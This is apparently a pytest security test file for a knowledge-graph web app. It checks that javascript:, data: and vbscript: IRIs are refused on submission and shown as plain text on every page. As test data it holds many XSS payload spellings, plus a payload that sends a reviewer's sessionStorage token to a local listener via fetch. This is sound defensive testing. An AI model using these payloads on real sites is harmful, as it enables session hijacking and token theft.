"""XSS through IRIs: a javascript:, data: or vbscript: IRI is refused in submissions, never a link, never run.

Found by an attacker: ``<javascript:...>`` was accepted as a subject or object IRI, became a clickable
``href`` on the entity, home, network, question and review pages and, clicked in a real browser, read
the reviewer's token from sessionStorage. Now:

* submissions refuse IRIs of any scheme but http, https and mailto (the SHACL shapes: 422 with a
  bilingual message naming the record; IRIs the parser cannot read at all: 400);
* IRIs that reach the published data another way (here written into the store before the server starts,
  as an administrator's load could) are shown as text on every page that renders them: in chromium no
  link, form, frame or script points at a scheme but http, https or mailto, and no payload runs — with
  the Content-Security-Policy enforced and with it switched off (the links themselves are safe, not only
  the policy); the token in sessionStorage reaches nobody (a listener records any connection).
"""

from __future__ import annotations

import base64
import gc
import json
import re
from pathlib import Path

import pyoxigraph as ox
import pytest
import requests

from conftest import RunningServer, start_server, stop_server
from security.browser import (  # noqa: F401 - fixtures used by pytest-playwright
    base_url,
    browser_context_args,
    browser_type_launch_args,
    screenshots,
    unsafe_targets,
    watch,
)
from security.conftest import Listener
from zitkg import links
from zitkg.accounts import Accounts, accounts_path
from zitkg.bundle import load_bundled
from zitkg.store import GRAPH_BASE, META_GRAPH, OxigraphStore
from zitkg.submissions import Submissions

BASE = "https://w3id.org/sieci-zit/"
ID = BASE + "id/"
ZIT = BASE + "ontology#"
RDFS = "http://www.w3.org/2000/01/rdf-schema#"
PRACTICE = (Path(__file__).resolve().parents[1] / "data" / "practice-with-pilot.ttl").read_text()
TOKEN_KEY = "zitkg-token"  # where review.js and submit.js keep the token (tokens.js)

# --- submissions refuse them -----------------------------------------------------------------------------

# As written inside <...> in Turtle (\uXXXX escapes are Turtle's own).
TURTLE_SPELLINGS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(document.domain)",
    "JAVASCRIPT:alert(1)",
    "javascript://%0Aalert(1)",
    "javascript:/*-/*`/*\\u0060/*'/*\"/**/(/* */alert(1) )//",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DaTa:text/html,%3Cscript%3Ealert(1)%3C/script%3E",
    "vbscript:msgbox(1)",
    "VBScript:MsgBox(1)",
    "file:///etc/passwd",
    "blob:https://evil.example/0b3d",
    "livescript:alert(1)",
    "\\u006Aavascript:alert(1)",  # the j escaped
    "jav\\u0061script:alert(1)",
    "\\u0020javascript:alert(1)",  # leading space
    "\\u0009javascript:alert(1)",  # leading tab
    "\\u0001javascript:alert(1)",  # leading control character
    "\\u0000javascript:alert(1)",
    "java\\u0009script:alert(1)",  # a tab inside, which URL parsers drop
    "java\\u000Ascript:alert(1)",
    "javascript\\u003Aalert(1)",  # the colon escaped
    "\\u00A0javascript:alert(1)",  # no-break space
    "\\uFEFFjavascript:alert(1)",  # byte-order mark
]


def _subject(iri: str) -> str:
    return PRACTICE.replace("_:practice a", f"<{iri}> a").replace("zit:pilotOf _:practice", f"zit:pilotOf <{iri}>")


def _object(iri: str) -> str:
    return PRACTICE.replace("dcterms:created", f"rdfs:seeAlso <{iri}> ;\n    dcterms:created", 1)


def _predicate(iri: str) -> str:
    return PRACTICE.replace("dcterms:created", f'<{iri}> "x"@pl ;\n    dcterms:created', 1)


def _datatype(iri: str) -> str:
    return PRACTICE.replace('schema:startDate "2025-10-01"^^xsd:date', f'schema:startDate "2025-10-01"^^<{iri}>')


POSITIONS = {"subject": _subject, "object": _object, "predicate": _predicate, "datatype": _datatype}


@pytest.fixture(scope="module")
def submitter(target: RunningServer) -> str:
    _account, secret = Accounts(accounts_path(target.store)).create(ID + "org/bof", "submitter", "xss test")
    return secret


def _submit(target: RunningServer, token: str, body: str, media_type: str = "text/turtle") -> requests.Response:
    return requests.post(target.url + "/api/submissions", data=body.encode(), timeout=60,
                         headers={"Content-Type": media_type, "Authorization": f"Bearer {token}"})


def _assert_refused(reply: requests.Response, shown: str) -> None:
    assert reply.status_code in (400, 422), (shown, reply.status_code, reply.text[:400])
    if reply.status_code == 422:  # the shapes: a bilingual message that names the record
        results = reply.json()["details"]["results"]
        named = [r for r in results if r["severity"] == "Violation" and r["focusNode"] in r["message"]["pl"]
                 and r["focusNode"] in r["message"]["en"] and r["value"] and not links.linkable(r["value"])]
        assert named, (shown, results)


@pytest.mark.parametrize("position", list(POSITIONS))
@pytest.mark.parametrize("spelling", TURTLE_SPELLINGS)
def test_a_turtle_submission_with_another_scheme_is_refused(target, submitter, spelling, position) -> None:
    _assert_refused(_submit(target, submitter, POSITIONS[position](spelling)), f"{position}: {spelling}")


# As JSON strings: the JSON-LD parser reads \uXXXX itself.
JSONLD_SPELLINGS = [
    "JaVaScRiPt:alert(1)",
    "javascript://%0Aalert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    " javascript:alert(1)",
    "\u0001javascript:alert(1)",
    "\tjava\nscript:alert(1)",
]


def _jsonld(subject: str | None, see_also: str | None = None) -> str:
    record = {
        "@context": "/context.jsonld",
        "type": "GoodPractice",
        "label": {"pl": "Praktyka z adresem", "en": "A practice with an address"},
        "description": {"pl": "Opis.", "en": "A description."},
        "theme": "theme/energy-efficiency",
        "lifecycleStatus": "practice-status/proposed",
        "originator": "org/bof",
        "created": "2025-11-02",
    }
    if subject is not None:
        record["@id"] = subject
    if see_also is not None:
        record[RDFS + "seeAlso"] = {"@id": see_also}
    return json.dumps(record)


@pytest.mark.parametrize("spelling", JSONLD_SPELLINGS)
def test_a_json_ld_record_named_by_another_scheme_is_refused(target, submitter, spelling) -> None:
    _assert_refused(_submit(target, submitter, _jsonld(spelling), "application/ld+json"), repr(spelling))


@pytest.mark.parametrize("spelling", JSONLD_SPELLINGS)
def test_a_json_ld_link_to_another_scheme_is_refused_or_dropped(target, submitter, spelling) -> None:
    """JSON-LD drops a node reference that is no IRI at all (`` javascript:``); one that is an IRI is refused."""
    reply = _submit(target, submitter, _jsonld(None, spelling), "application/ld+json")
    if reply.status_code == 201:  # the parser dropped the reference: nothing of it was stored
        created = reply.json()
        content = requests.get(created["links"]["self"], timeout=10,
                               headers={"Authorization": f"Bearer {submitter}"}).json()["content"]
        requests.delete(created["links"]["self"], headers={"Authorization": f"Bearer {submitter}"}, timeout=10)
        assert "seeAlso" not in content and "script:" not in content.lower(), content
        with pytest.raises(ValueError):  # only because it is no IRI at all: RDF cannot even hold it
            ox.NamedNode(spelling)
    else:
        _assert_refused(reply, repr(spelling))


def test_an_untyped_subject_with_another_scheme_is_refused(target, submitter) -> None:
    body = PRACTICE + '\n<javascript:alert(1)> rdfs:label "x"@pl ; rdfs:seeAlso <https://example.org/> .\n'
    reply = _submit(target, submitter, body)
    if reply.status_code == 201:  # take it back, so that nothing of it stays
        requests.delete(reply.json()["links"]["self"], headers={"Authorization": f"Bearer {submitter}"}, timeout=10)
    _assert_refused(reply, "untyped subject")


def test_nothing_of_the_refused_submissions_was_stored(target, submitter) -> None:
    mine = requests.get(target.url + "/api/submissions", timeout=10,
                        headers={"Authorization": f"Bearer {submitter}"}).json()["submissions"]
    assert [s for s in mine if s["status"] != "deleted"] == []
    for spelling in ("javascript:", "vbscript:", "data:text/html"):
        ask = requests.get(target.sparql, timeout=10, params={
            "query": f'ASK {{ {{ ?s ?p ?o }} FILTER(CONTAINS(LCASE(STR(?s)), "{spelling}") '
                     f'|| CONTAINS(LCASE(STR(?o)), "{spelling}")) }}'}).json()
        assert ask["boolean"] is False


# --- published data that holds them is shown as text ----------------------------------------------------

def payloads(listener_url: str) -> dict[str, str]:
    """IRIs that, followed in a browser, would send the token in sessionStorage to the listener."""
    steal = f"(window.__xss=1,fetch('{listener_url}/'+sessionStorage.getItem('{TOKEN_KEY}')))"
    page = base64.b64encode(f"<script>{steal}</script>".encode()).decode()
    return {
        "javascript": f"javascript:void{steal}",
        "mixed-case": f"JaVaScRiPt:void{steal}",
        "comment-newline": f"javascript://%0A{steal}",
        "data": f"data:text/html;base64,{page}",
        "vbscript": "vbscript:msgbox(1)",
        "file": "file:///etc/passwd",
    }


def _label(key: str) -> str:
    return f"XSS-{key}"


def _payload_graph(iris: dict[str, str]) -> list[ox.Triple]:
    def n(iri: str) -> ox.NamedNode:
        return ox.NamedNode(iri if ":" in iri.split("/")[0] else ID + iri)

    def lit(text: str, lang: str = "pl") -> ox.Literal:
        return ox.Literal(text, language=lang)

    a = ox.NamedNode("http://www.w3.org/1999/02/22-rdf-syntax-ns#type")
    label, created = ox.NamedNode(RDFS + "label"), ox.NamedNode("http://purl.org/dc/terms/created")
    triples = []
    for number, (key, iri) in enumerate(iris.items(), start=1):
        practice = ox.NamedNode(iri)
        triples += [
            ox.Triple(practice, a, n(ZIT + "GoodPractice")),
            ox.Triple(practice, label, lit(_label(key))),
            ox.Triple(practice, label, lit(_label(key), "en")),
            ox.Triple(practice, n(ZIT + "theme"), n("theme/energy-efficiency")),
            ox.Triple(practice, n(ZIT + "lifecycleStatus"), n("practice-status/piloted")),
            ox.Triple(practice, n(ZIT + "originator"), n("org/bof")),
            ox.Triple(practice, n(ZIT + "inNetwork"), n("network/co4energy")),
            ox.Triple(practice, created, ox.Literal(f"2099-01-{number:02d}", datatype=n(
                "http://www.w3.org/2001/XMLSchema#date"))),
            ox.Triple(practice, n(ZIT + "isExample"), ox.Literal(True)),
            ox.Triple(practice, n("http://purl.org/dc/terms/source"), n("source/examples")),
            ox.Triple(n("org/bof"), n(RDFS + "seeAlso"), practice),  # an object on the entity page
        ]
    first = next(iter(iris.values()))
    member, pilot = ox.NamedNode(first + "//member"), ox.NamedNode(first + "//pilot")
    membership = n("membership/xss-member")
    org = "http://www.w3.org/ns/org#"
    triples += [
        ox.Triple(n("org/bof"), ox.NamedNode(first + "//property"), lit(_label("property-value"))),  # a predicate
        ox.Triple(n("org/bof"), a, ox.NamedNode(first + "//class")),  # a type
        ox.Triple(membership, a, n(org + "Membership")),  # a member of a network: home, networks, network
        ox.Triple(membership, n(org + "member"), member),
        ox.Triple(membership, n(org + "organization"), n("network/co4energy")),
        ox.Triple(membership, n(org + "role"), n("role/partner")),
        ox.Triple(member, label, lit(_label("member"))),
        ox.Triple(member, label, lit(_label("member"), "en")),
        ox.Triple(pilot, a, n(ZIT + "Pilot")),  # a pilot: network page, map, questions
        ox.Triple(pilot, label, lit(_label("pilot"))),
        ox.Triple(pilot, label, lit(_label("pilot"), "en")),
        ox.Triple(pilot, n(ZIT + "pilotOf"), ox.NamedNode(first)),
        ox.Triple(pilot, n(ZIT + "pilotLocation"), n("mof/bialystok")),
        ox.Triple(pilot, n(ZIT + "implementedBy"), n("org/bof")),
        ox.Triple(pilot, n(ZIT + "inNetwork"), n("network/co4energy")),
        ox.Triple(pilot, n("https://schema.org/startDate"), ox.Literal("2099-01-01", datatype=n(
            "http://www.w3.org/2001/XMLSchema#date"))),
        ox.Triple(pilot, n(ZIT + "isExample"), ox.Literal(True)),
        ox.Triple(pilot, n("http://purl.org/dc/terms/source"), n("source/examples")),
    ]
    return triples


class Stage:
    def __init__(self, server: RunningServer, listener: Listener, iris: dict[str, str], reviewer: str,
                 submitter: str) -> None:
        self.server, self.listener, self.iris = server, listener, iris
        self.reviewer, self.submitter = reviewer, submitter


def _write_store(path: Path, iris: dict[str, str]) -> tuple[str, str]:
    """The bundled data plus the payloads in the published examples graph, and a pending submission whose
    records include the payloads; returns the tokens of its submitter and of a reviewer."""
    store = OxigraphStore(path)
    load_bundled(store)
    triples = _payload_graph(iris)
    store.update(f"INSERT DATA {{ GRAPH <{GRAPH_BASE}examples> {{ {' '.join(f'{t} .' for t in triples)} }} }}")
    accounts = Accounts(accounts_path(path))
    submitter_account, submitter = accounts.create(ID + "org/bof", "submitter", "xss stage")
    _reviewer_account, reviewer = accounts.create(ID + "org/programme-operator", "reviewer", "xss stage")
    pending = Submissions(store, BASE).create(PRACTICE.encode(), "text/turtle", submitter_account)
    described = " ".join(f"<{pending.iri}> <{ZIT}describes> <{iri}> ." for iri in iris.values())
    store.update(f"INSERT DATA {{ GRAPH <{META_GRAPH}> {{ {described} }} }}")
    store.close()
    return submitter, reviewer


@pytest.fixture(scope="module")
def stage(tmp_path_factory) -> Stage:
    """A server whose published data and pending submission hold the payloads, written before it starts."""
    tmp = tmp_path_factory.mktemp("xss")
    listener = Listener()
    iris = payloads(f"http://127.0.0.1:{listener.port}")
    submitter, reviewer = _write_store(tmp / "server-store", iris)  # where start_server puts its store
    gc.collect()  # the store's files stay locked until its last reference is gone
    server = start_server(tmp, query_workers="2")
    yield Stage(server, listener, iris, reviewer, submitter)
    stop_server(server)
    listener.close()


def test_json_answers_give_no_link_to_another_scheme(stage) -> None:
    """The map's and the graph view's data name a link target only where it may be one."""
    url = stage.server.url
    features = requests.get(url + "/map/data.json", timeout=30).json()["features"]
    nodes = requests.get(url + "/graph.json", params={"resource": ID + "org/bof"}, timeout=30).json()["nodes"]
    items = [f["properties"] for f in features] + nodes
    shown = [i for i in items if (i.get("iri") or i.get("id")) in stage.iris.values()
             or (i.get("iri") or i.get("id") or "").startswith(next(iter(stage.iris.values())))]
    assert shown, "the payloads are in the map and graph data"
    assert all(i["href"] is None or links.linkable(i["href"]) or i["href"].startswith("/") for i in items)
    assert all(i["href"] is None for i in shown)


# (name, path, token, labels of payloads that must be shown, what to wait for). The faceted search and the
# map index only this graph's own IRIs (under id/), so no payload is listed there; they are checked all
# the same (the type facet of BOF holds a payload class).
PAGES = [
    ("home", "/", None, ("javascript", "mixed-case", "data", "member"), "ul.latest li"),
    ("networks", "/networks", None, ("member",), "main h2"),
    ("network", "/networks/co4energy", None, ("member", "javascript", "pilot"), "main h1"),
    ("entity", "/id/org/bof", None, ("javascript", "vbscript", "file", "property-value"), "#graph[data-nodes]"),
    ("entity-of-network", "/id/network/co4energy", None, ("comment-newline",), "main h1"),
    ("search", "/search?q=Bialostockiego", None, (), "ol.results > li"),
    # the search question indexes the resources under {base}id/ only; the neighbourhood shows every link
    ("question", "/questions/neighbourhood?resource=" + ID + "org/bof", None, ("javascript",),
     "table.answer tbody tr"),
    ("question-pilots", "/questions/pilots-by-theme?theme=" + ID + "theme/energy-efficiency", None, ("pilot",),
     "table.answer tbody tr"),
    ("matrix-cell", f"/matrix/cell?organisation={ID}org/bof&theme={ID}theme/energy-efficiency", None,
     ("javascript", "file"), "#cell-detail"),
    ("map", "/map", None, (), "#map[data-loaded]"),
    ("review", "/review", "reviewer", (), "#pending tbody tr[data-id]"),
    ("submit", "/submit", "submitter", (), "#mine tbody tr[data-status]"),
]


def _click_payloads(page) -> None:  # noqa: ANN001
    """Click everything that shows a payload, as a curious reviewer would; none of it may be a link."""
    shown = page.locator("a, span.nolink").filter(has_text=re.compile("XSS-|script:|data:|file:"))
    for index in range(min(shown.count(), 30)):
        element = shown.nth(index)
        if element.is_visible():
            element.click(no_wait_after=True)


@pytest.mark.browser
@pytest.mark.parametrize("policy", ["enforced", "bypassed"])
def test_no_page_links_or_runs_a_payload(browser, stage, policy) -> None:
    """Every page that renders the payloads, in chromium, with a token in sessionStorage as review.js keeps it."""
    context = browser.new_context(bypass_csp=policy == "bypassed", locale="pl-PL",
                                  viewport={"width": 1366, "height": 900})
    page = context.new_page()
    page.set_default_timeout(15_000)
    seen = watch(page)
    url = stage.server.url
    tokens = {"reviewer": stage.reviewer, "submitter": stage.submitter, None: stage.reviewer}
    page.goto(url + "/")
    try:
        for name, path, token, expected, ready in PAGES:
            page.evaluate("([k, v]) => sessionStorage.setItem(k, v)", [TOKEN_KEY, tokens[token]])
            response = page.goto(url + path)
            assert response.status == 200, name
            assert "script-src 'self'" in response.headers["content-security-policy"]
            page.locator(ready).first.wait_for(state="attached")
            page.wait_for_load_state("networkidle")
            text = page.locator("main").inner_text()
            for key in expected:
                assert _label(key) in text, (name, key)
            if name in ("review", "submit"):  # the submission's records, listed by the scripts
                for iri in stage.iris.values():
                    assert iri in text, (name, iri)
            assert unsafe_targets(page) == [], name
            if name == "entity":  # the graph view: a double click opens a node's page, never a payload
                payload = next(iter(stage.iris.values()))
                assert page.evaluate("iri => !window.zitkgGraph.getElementById(iri).empty()", payload)
                page.evaluate("iri => window.zitkgGraph.getElementById(iri).emit('dbltap')", payload)
                page.wait_for_timeout(300)
                assert page.url == url + path
            _click_payloads(page)
            page.wait_for_timeout(300)
            assert page.url.startswith(url), (name, page.url)  # no navigation to data: or elsewhere
            assert page.evaluate("window.__xss") is None
            if policy == "enforced":
                screenshots(page, f"xss-{name}")
        # YASGUI renders query results itself: its links are sanitised too.
        page.goto(url + "/sparql")
        page.locator(".yasqe .CodeMirror").wait_for()
        with page.expect_response(lambda r: r.url.endswith("/sparql") and r.request.method == "POST"):
            page.evaluate("""q => { const tab = window.zitkgYasgui.getTab(); tab.setQuery(q); tab.query(); }""",
                          f"SELECT ?practice ?label WHERE {{ ?practice a <{ZIT}GoodPractice> ; <{RDFS}label> ?label "
                          'FILTER(STRSTARTS(STR(?label), "XSS-")) }')
        page.locator(".yasr").get_by_text(_label("vbscript")).first.wait_for()
        assert unsafe_targets(page) == [], "yasgui"
        _click_payloads(page)
        page.wait_for_timeout(300)
        assert page.url.startswith(url) and page.evaluate("window.__xss") is None
        assert stage.listener.connections == []  # the token went nowhere
        assert seen.errors == []
        assert seen.outside == []
        if policy == "enforced":
            assert seen.violations == []  # nothing even tried to run
    finally:
        context.close()


@pytest.mark.browser
def test_the_scripts_decide_with_the_browsers_own_parser(page, stage) -> None:
    """links.js, which every script uses for links from data: spellings the server never produces too."""
    page.goto(stage.server.url + "/")
    refused = ["javascript:alert(1)", " javascript:alert(1)", "\tjavascript:alert(1)", "\u0001javascript:alert(1)",
               "java\tscript:alert(1)", "java\nscript:alert(1)", "\u0000javascript:alert(1)", "JAVASCRIPT:alert(1)",
               "javascript\n:alert(1)", "data:text/html,<script>alert(1)</script>", "  DATA:text/html,x",
               "vbscript:msgbox(1)", "blob:http://127.0.0.1/x", "file:///etc/passwd", "about:blank", "",
               "http://[bad", *stage.iris.values()]
    allowed = ["https://example.org/x", "HTTP://EXAMPLE.ORG/", "mailto:someone@example.org", "/id/org/bof",
               ID + "org/bof"]
    decided = page.evaluate("""([iris, base]) => iris.map(iri => {
        const el = window.zitkgLinks.anchor(iri, 'label', base);
        return [el.tagName, el.getAttribute('href')];
    })""", [refused + allowed, BASE])
    assert decided[:len(refused)] == [["SPAN", None]] * len(refused)
    assert [tag for tag, _href in decided[len(refused):]] == ["A"] * len(allowed)
    assert decided[-1] == ["A", "/id/org/bof"]  # the graph's own IRIs open their page here


@pytest.mark.parametrize(("iri", "linkable"), [
    ("https://w3id.org/sieci-zit/id/org/bof", True),
    ("HTTP://example.org/", True),
    ("mailto:someone@example.org", True),
    ("javascript:alert(1)", False),
    ("JaVaScRiPt:alert(1)", False),
    (" javascript:alert(1)", False),
    ("\x01javascript:alert(1)", False),
    ("java\tscript:alert(1)", False),
    (" https://example.org/", False),  # no scheme at the start: not an absolute IRI, so no link
    ("data:text/html,x", False),
    ("urn:isbn:0451450523", False),
    ("", False),
])
def test_the_server_decides_by_the_parsed_scheme(iri, linkable) -> None:
    assert links.linkable(iri) is linkable


def test_unlinkable_iris_of_a_graph() -> None:
    s, ok = ox.NamedNode("javascript:alert(1)"), ox.NamedNode("https://example.org/")
    triples = [ox.Triple(s, ox.NamedNode(RDFS + "seeAlso"), ok),
               ox.Triple(ok, ox.NamedNode("vbscript:x"), ox.Literal("1", datatype=ox.NamedNode("data:,x"))),
               ox.Triple(ok, ox.NamedNode(RDFS + "seeAlso"), s)]
    assert links.unlinkable_iris(triples) == [
        ("javascript:alert(1)", "javascript:alert(1)"),
        ("https://example.org/", "vbscript:x"),
        ("https://example.org/", "data:,x"),
        ("https://example.org/", "javascript:alert(1)"),
    ]
